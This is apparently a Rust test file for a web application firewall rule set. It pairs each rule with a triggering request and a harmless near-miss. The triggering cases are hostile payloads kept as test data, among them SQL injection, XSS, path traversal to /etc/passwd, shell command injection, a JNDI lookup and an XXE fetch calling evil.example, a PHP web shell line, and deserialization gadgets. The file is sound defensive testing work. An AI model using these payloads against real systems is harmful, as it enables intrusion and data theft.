//! For each rule of klar-core what trips it, and what nearly does.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;

use super::{KLAR_CORE, klar_core};
use crate::engine::{Answer, Caches, Head, Waf};
use crate::seclang::Mode;

/// A rule, a request that trips it, and one that does not.
///
/// `q TEXT` is an argument, `GET /path` a target, `head NAME: TEXT` one more header, `name NAME=TEXT` a query as it
/// stands there, `line METHOD TARGET PROTOCOL` all of the first line, `body TYPE TEXT` a body, `file NAME TEXT` a file in
/// a form, `put TARGET TEXT` what it says, `said STATUS TEXT` a response. `\r`, `\n`, `\0` are what they are in Rust.
const CASES: &[(u32, &str, &str)] = &[
    (91010010, "line get / HTTP/1.1", "line GET / HTTP/1.1"),
    (91010011, "line TRACE / HTTP/1.1", "line OPTIONS / HTTP/1.1"),
    (91010012, "line GET / HTTP/9", "line GET / HTTP/2.0"),
    (91010013, "head Host: b.example", "head X-Host: b.example"),
    (91010014, "line GET http://10.0.0.1/ HTTP/1.1", "GET /?u=http://example.com/"),
    (91010015, "head Content-Length: +3", "head Content-Length: 3"),
    (91010016, "head Transfer-Encoding: chunked, chunked", "head Transfer-Encoding: chunked"),
    (91010018, "head Content-Type: a/b\nContent-Type: c/d", "head Content-Type: a/b"),
    (91010017, "head Transfer-Encoding: chunked\nContent-Length: 3", "head Transfer-Encoding: chunked"),
    (
        91010019,
        "head Content-Type: multipart/form-data; boundary=a; boundary=b",
        "head Content-Type: multipart/form-data; boundary=a",
    ),
    (91010020, "body text/plain;charset=utf-7 x", "body text/plain;charset=utf-8 x"),
    (91010021, "head X-Original-URL: /admin", "head X-Original-Name: a"),
    (91010022, "head Range: bytes=0-,5-0,5-1", "head Range: bytes=0-99,200-299"),
    (91010023, "head X-Long: LONG", "head X-Short: a"),
    (91010024, "GET /a%00.html", "GET /a%2000.html"),
    (91010025, "name q=%c0%af", "name q=%c3%a5"),
    (
        91010026,
        "body application/x-www-form-urlencoded a=x%00",
        "body application/x-www-form-urlencoded a=x00",
    ),
    (91010027, "body application/json {\"a\":1,}", "body application/json {\"a\":1}"),
    (
        91010028,
        "part Content-Disposition: form-data; name=\"q\"\r\n folded: x",
        "part Content-Disposition: form-data; name=\"q\"",
    ),
    (
        91010029,
        "part Content-Disposition: form-data; name=\"q\"; filename=\"a\"; filename*=utf-8''x.php",
        "part Content-Disposition: form-data; name=\"q\"; filename=\"a\"",
    ),
    (91010030, "name _charset_=utf-16", "name _charset_=UTF-8"),
    (91010031, "line JEFF / HTTP/1.1", "line PROPFIND / HTTP/1.1"),
    (91010032, "line GET / HTTP/1.1 a@b", "line GET / HTTP/1.1 [::1]:8080"),
    (91010033, "head X Y: 1", "head X-Y: 1"),
    (
        91010034,
        "head Content-Type: %{(#a='multipart/form-data')}",
        "head Content-Type: text/html; charset=utf-8",
    ),
    (91010035, "head X-Middleware-Subrequest: middleware", "head X-Request-Id: 7"),
    (91010036, "head Connection: close, X-Real-IP", "head Connection: keep-alive, Upgrade"),
    (91010037, "head X-A: a\x07b", "head X-A: a\tb"),
    (91010038, "name MANY", "name a=1&b=2"),
    (91020010, "agent sqlmap/1.8", "agent Mozilla/5.0 (Maps)"),
    (91020011, "agent -", "agent Mozilla/5.0 (X11) Gecko"),
    (91020020, "GET /.env", "GET /team/app/blob/main/.env"),
    (91020021, "GET /index.php.bak", "GET /downloads/app.zip"),
    (91020022, "GET /wp-config.php", "GET /help/wp-config"),
    (91020023, "GET /actuator/heapdump", "GET /actuators/list"),
    (91020024, "GET /wso.php", "GET /shell-pasta"),
    (91020025, "name s=/index/%5cthink%5capp/invokefunction", "name s=/index/thinking"),
    (91030010, "q ../WEB-INF/web.xml", "q what is WEB-INF/web.xml"),
    (91030011, "q ../../../etc/passwd", "q how do I read /etc/passwd in Python?"),
    (91030012, "q ....//....//x", "q ../bilder/logo.png"),
    (91030013, "GET /a/../b", "GET /a/..b"),
    (91030014, "GET /etc/passwd", "GET /blog/etc/passwords"),
    (91030015, "q ../../secrets.txt", "q ../../css/style.css"),
    (91040010, "q 1' or '1'='1", "q he said 'or' 1 time"),
    (91040011, "q 1 union select 1,2", "q union select committee hearing"),
    (91040012, "q Oslo 1 and 1=1", "q 1=1 and all that"),
    (91040013, "q 1' or jsonb_path_exists('[1]','$[*]')--", "q the boys' and girls' rooms"),
    (91040014, "q admin'--", "q Robert'); -- nei da"),
    (91040015, "q 1; DROP TABLE users", "q don't drop the table; update it"),
    (91040016, "q 1 and sleep(5)", "q time.sleep(5)"),
    (91040017, "q 1 /*!and*/ 1", "q /*! a licence */"),
    (91040018, "q 1 order by 7--", "q order by 7 pm"),
    (91040019, "q x from information_schema.tables", "q information schema for students"),
    (91040020, "q 1 and name is not null", "q 1 or 2 = which one?"),
    (91040021, "q '||(select user from dual)||'", "q 'a' || 'b'"),
    (91050010, "q <script>alert(1)</script>", "q <p style=\"color:red\">x</p>"),
    (91050011, "q <img/src=x/onerror=alert(1)>", "q <img src=\"a.png\" alt=\"on\">"),
    (91050012, "q <base href=//evil.example/>", "q <blockquote>x</blockquote>"),
    (
        91050013,
        "q <iframe src=//evil.example></iframe>",
        "q <iframe src=\"https://www.youtube.com/embed/x\"></iframe>",
    ),
    (91050014, "q \" onfocus=alert(1) autofocus x=\"", "q on-site: yes; once=1"),
    (91050015, "q javascript:alert(1)", "q JavaScript: The Good Parts"),
    (91050016, "q ';alert(1)//", "q alert(1) is the usual proof of it"),
    (91050017, "q [].constructor.constructor('x')()", "q the constructor of a house"),
    (91050018, "q \u{ff1c}script\u{ff1e}", "q 3 \u{ff1c} 4"),
    (91050019, "body text/plain +ADw-script+AD4-", "body text/plain +ADw is base64"),
    (91050020, "q data:text/html,<b>x</b>", "q data:image/png;base64,iVBO"),
    (91060010, "q ; cat /etc/passwd", "q tea; coffee; cat food"),
    (91060011, "q /bin/sh -c id", "q /usr/bin:/bin"),
    (91060012, "q () { :; }; x", "q f() { return 1 }"),
    (91060013, "q --output=/var/www/x.php", "q --output is an option"),
    (91060014, "q x;a=id;$a", "q a=b; c=d"),
    (91070010, "q ${jndi:ldap://evil.example/a}", "q ${navn}"),
    (91070011, "q {{7*7}}", "q {{ pris }} * 7"),
    (91070012, "q ''.__class__.__mro__[1].__subclasses__()", "q self.__class__.__name__"),
    (91070013, "q {{config.items()}}", "q {{ user.email|lower }}"),
    (91070014, "q ${T(java.lang.Runtime).getRuntime()}", "q T(n) = O(n)"),
    (91080010, "q http://169.254.169.254/latest/meta-data/", "q https://example.com/?a=127.0.0.1"),
    (91080011, "q http://evil.example/r57.txt???", "q https://example.com/robots.txt"),
    (91080012, "q https://www.example.com@evil.example/", "q https://kari@git.example.com/"),
    (91080013, "q x@169.254.169.254/latest", "q what is 169.254.169.254 for?"),
    (91090010, "q <?php system($_GET['c']); ?>", "q <?php echo \"hi\"; ?>"),
    (91090011, "q phpinfo()", "q system('x') is a function of PHP"),
    (91090012, "q {${phpinfo()}}", "q preg_replace('/a/', 'b', $c)"),
    (91090013, "q O:8:\"stdClass\":0:{}", "q O: 8 points"),
    (91090014, "q rO0ABXNyABdqYXZh", "q r0ABX"),
    (91090015, "q !!python/object/apply:os.system", "q !!!important"),
    (
        91090016,
        "body application/json {\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
        "body application/json {\"@type\":\"Product\"}",
    ),
    (91090017, "q require('child_process').exec('id')", "q require('express')"),
    (91090018, "name class.module.classLoader.x=1", "name class.name=1"),
    (91090019, "name __proto__[a]=1", "name prototype=1"),
    (91090020, "q {\"__proto__\":{\"a\":1}}", "q __proto__ is a strange thing"),
    (
        91090021,
        "body application/xml <!DOCTYPE r [<!ENTITY x SYSTEM \"file:///x\">]><r/>",
        "body application/xml <r>x</r>",
    ),
    (
        91090022,
        "body application/xml <!DOCTYPE r PUBLIC \"-//A//B\" \"http://evil.example/x.dtd\"><r/>",
        "body application/xml <!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
    ),
    (
        91090023,
        "body text/xml <methodCall><methodName>system.multicall</methodName></methodCall>",
        "body text/xml <methodCall><methodName>wp.getPost</methodName></methodCall>",
    ),
    (91090024, "q <!--#exec cmd=\"id\" -->", "q <!-- #1 -->"),
    (
        91090025,
        "body text/xml <java version=\"1.8\"><object class=\"x\"/></java>",
        "body text/xml <objects><java>1</java></objects>",
    ),
    (91100010, "name user[$ne]=1", "name user[$device]=1"),
    (91100011, "q {\"$where\": \"sleep(5000)\"}", "q {\"$schema\": \"x\"}"),
    (91100012, "q admin)(&(uid=*", "q foo(bar)(baz)"),
    (91100013, "q x'] | //user | a['", "q //div[@class='pris']/text()"),
    (91110010, "q x\r\nSet-Cookie: a=1", "q Hei\r\nsvar: ja"),
    (91110011, "q eve@example.com\r\nBcc: all@example.com", "q Hei\nTo: eple"),
    (91120010, "file x.pHp a", "file x.php.md.pdf.docx a"),
    (91120011, "file .htaccess a", "file .gitignore a"),
    (91120012, "file x.jpg GIF89a<?php system(1);", "file x.jpg GIF89a"),
    (91120013, "file x.svg <svg onload=\"alert(1)\"/>", "file x.svg <svg viewBox=\"0 0 1 1\"/>"),
    (91120014, "put /uploads/x.php a", "put /uploads/x.png a"),
    (
        91800010,
        "said 200 -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq0m1Zk5nJ8y3v1u2t3s4r5q6p7o8n9m0l1k2j3h4g5f6d7",
        "said 200 -----BEGIN RSA PRIVATE KEY----- is how it begins",
    ),
    (91800011, "said 200 <?php\necho 1;", "said 200 <p>&lt;?php</p>"),
    (91800012, "said 200 root:x:0:0:root:/root:/bin/bash", "said 200 root: the part below"),
    (91800013, "said 200 <title>Index of /files</title>", "said 200 <title>An index of things</title>"),
    (91800014, "said 200 <title>phpinfo()</title>", "said 200 <h1>What phpinfo() does</h1>"),
    (
        91800020,
        "said 500 Traceback (most recent call last):\n  File \"a.py\", line 1",
        "said 200 What is a traceback?",
    ),
    (91800021, "said 500 ORA-01756: quoted string", "said 200 An oracle: quoted"),
    (91800022, "said 500 ORA-01756: quoted string", "said 200 ORA-01756: quoted string"),
    (91800023, "said 200 APP_KEY=abc\nDB_HOST=x", "said 200 Set APP_KEY= in your settings"),
    (91080010, "q http://10.0.0.1/", "q ipp://192.168.1.77:631/ipp/print"),
    (91080010, "q http://localhost:3000/admin", "q http://localhost:3000/auth/callback"),
    (91100010, "name filter[$or][0][a]=1", "name filters[$or][0][title][$containsi]=jul"),
    (91100010, "name password[$ne]=1", "name total[$gte]=500"),
    (91020021, "GET /backup.zip", "GET /backup.zip?sig=x"),
    (91040011, "q 1 uni%on sel%ect 1", "q I've got `SELECT name FROM a UNION SELECT name FROM b` here"),
    (91040011, "q -1 UNIUNIONON SELSELECTECT 1", "q the union, selected"),
    (
        91040015,
        "q 1;/**/INSERT/**/INTO/**/admins(name,pass)/**/VALUES('x','y')",
        "q @@ -1 +1 @@\n-SELECT 1;\n SELECT 2; -- better\n",
    ),
    (91040010, "q 1' and category in ('lue','vott')-- ", "q qty >= 3 and category in ('lue','vott')"),
    (91040021, "q a' or name = 'b", "q klasse = '7B' OR klasse = '7C'?"),
    (
        91050010,
        "q <meta http-equiv=refresh content='0;url=//evil'>",
        "q <meta http-equiv=\"Content-Type\" content=x>",
    ),
    (91060011, "q powershell -enc AAAA", "q powershell example"),
    (91120010, "file x.php.txt a", "file export.ps1.txt a"),
    (91120014, "put /a.php/ x", "put /remote.php/dav/calendars/a.ics x"),
    (91100012, "q *)(uid=*))(|(uid=*", "q (&(objectClass=person)(uid={0}))"),
    (91050017, "q x'+document.cookie+'", "q document.cookie vs localStorage"),
    (91120011, "file .env a", "file .env.example a"),
    (91060013, "q --checkpoint=1 --checkpoint-action=exec=sh x.sh", "q --checkpoint=1"),
    (91060014, "q a & mshta http://203.0.113.5/a.hta", "q a & mshtast"),
    (91090011, "q ('sys'.'tem')('id')", "q ('a'.'b')"),
    (91090018, "name mail[%23post_render][]=exec", "name mail[0]=a"),
    (91090019, "name __pro__proto__to__[foo]=bar", "name proto=bar"),
    (91090020, "q /__proto__/polluted", "q /a/b"),
    (91090014, "q TzozMjoiTW9ub2xvZ1xIYW5kbGVyXFN5c2xvZ1Vk", "q Tzo"),
    (91080012, "q http://user@127.0.0.1:80@evil.example/", "q http://user@example.com/"),
    (91080012, "q http://127.0.0.1.nip.example/", "q http://127-shop.example/"),
    (91080011, "q \\\\10.9.8.7\\share\\x", "q \\\\server\\share"),
    (91090026, "file a.svg <!ENTITY x SYSTEM 'file:///etc/passwd'>", "file a.svg <svg></svg>"),
    (91090027, "body text/yaml cmd: !!python/object/apply:os.system", "body text/yaml a: !!str 1"),
    (91030015, "q light/../../admin/config", "q a/../b"),
    (91030012, "q ..%u2215..%u2215windows", "q a..b"),
];

/// Which rules match.
fn matched(waf: &Waf, caches: &Caches, case: &str) -> Vec<u32> {
    let (kind, text) = case.split_once(' ').unwrap();
    let (mut method, mut target, mut protocol, mut host) = ("GET", "/".to_owned(), "HTTP/1.1", "a.example");
    let mut agent = "Mozilla/5.0 (X11) Gecko";
    let mut headers: Vec<(String, String)> = Vec::new();
    let (mut body, mut answer) = (String::new(), None);
    let long = "x".repeat(20_000);
    match kind {
        "q" => target = format!("/?v={}", encoded(text)),
        "GET" => target = text.to_owned(),
        "name" if text == "MANY" => target = format!("/?{}", "a=1&".repeat(950)),
        "name" => target = format!("/?{text}"),
        "agent" => agent = text,
        "line" => {
            let mut parts = text.split(' ');
            method = parts.next().unwrap();
            target = parts.next().unwrap().to_owned();
            protocol = parts.next().unwrap();
            host = parts.next().unwrap_or(host);
        }
        "head" => {
            for line in text.split('\n') {
                let (name, value) = line.split_once(": ").unwrap();
                headers.push((name.to_owned(), value.replace("LONG", &long)));
            }
        }
        "body" => {
            method = "POST";
            let (kind, text) = text.split_once(' ').unwrap();
            headers.push(("Content-Type".into(), kind.into()));
            body = text.to_owned();
        }
        "put" => {
            method = "PUT";
            target = text.split(' ').next().unwrap().to_owned();
        }
        "file" | "part" => {
            method = "POST";
            headers.push(("Content-Type".into(), "multipart/form-data; boundary=b".into()));
            body = if kind == "part" {
                format!("--b\r\n{text}\r\n\r\nx\r\n--b--\r\n")
            } else {
                let (name, text) = text.split_once(' ').unwrap();
                format!(
                    "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\n{text}\r\n--b--\r\n"
                )
            };
        }
        "said" => answer = text.split_once(' ').map(|(status, text)| (status.parse().unwrap(), text)),
        _ => unreachable!("{kind}"),
    }
    let mut all: Vec<(&[u8], &[u8])> = vec![(b"Host", host.as_bytes()), (b"User-Agent", agent.as_bytes())];
    all.extend(headers.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes())));
    let mut transaction = waf.begin(Box::default());
    let head = Head {
        method: method.as_bytes(),
        target: target.as_bytes(),
        protocol: protocol.as_bytes(),
        headers: &all,
        remote: b"192.0.2.7",
        unique_id: b"0123456789abcdef",
    };
    transaction.request(caches, &head);
    transaction.push_body(body.as_bytes());
    transaction.request_body(caches);
    if let Some((status, text)) = answer {
        let headers: [(&[u8], &[u8]); 1] = [(b"Content-Type", b"text/html")];
        transaction.response(caches, &Answer { status, protocol: b"HTTP/1.1", headers: &headers });
        transaction.push_response_body(text.as_bytes());
        transaction.response_body(caches);
    }
    transaction.matched().map(|one| one.rule).collect()
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// The rules alone: nothing is refused, so that all of them are asked.
fn rules() -> Waf {
    let more = crate::seclang::Source { name: "mode.conf", text: "SecRuleEngine DetectionOnly" };
    let (waf, refused) = klar_core(&[more]);
    assert!(refused.is_empty(), "{refused:#?}");
    waf
}

#[test]
fn each_rule_is_tripped_and_nearly_tripped() {
    let waf = rules();
    let caches = waf.caches();
    let mut wrong = Vec::new();
    for (rule, yes, no) in CASES {
        if !matched(&waf, &caches, yes).contains(rule) {
            wrong.push(format!("{rule} passes over {yes:?}"));
        }
        if matched(&waf, &caches, no).contains(rule) {
            wrong.push(format!("{rule} takes {no:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn each_rule_that_scores_has_its_case() {
    let ids = |text: &str| -> Vec<u32> {
        text.split("\"id:").skip(1).map(|rest| rest.split(',').next().unwrap().parse().unwrap()).collect()
    };
    let all: BTreeSet<u32> = KLAR_CORE.iter().flat_map(|source| ids(source.text)).collect();
    let tested: BTreeSet<u32> = CASES.iter().map(|(rule, ..)| *rule).collect();
    let untested: Vec<_> = all.difference(&tested).collect();
    assert_eq!(untested, [&91000001, &91000002, &91900001, &91900002, &91900003], "settings and sums alone");
}

#[test]
fn it_blocks_as_it_comes() {
    let (waf, refused) = klar_core(&[]);
    assert!(refused.is_empty(), "{refused:#?}");
    assert_eq!(waf.settings().mode, Mode::On);
    let caches = waf.caches();
    for (case, is_blocked) in
        [("q 1' or '1'='1", true), ("q O'Brien", false), ("GET /.env", true), ("GET /", false)]
    {
        let sums = [91900001, 91900002];
        assert_eq!(matched(&waf, &caches, case).iter().any(|rule| sums.contains(rule)), is_blocked, "{case}");
    }
}
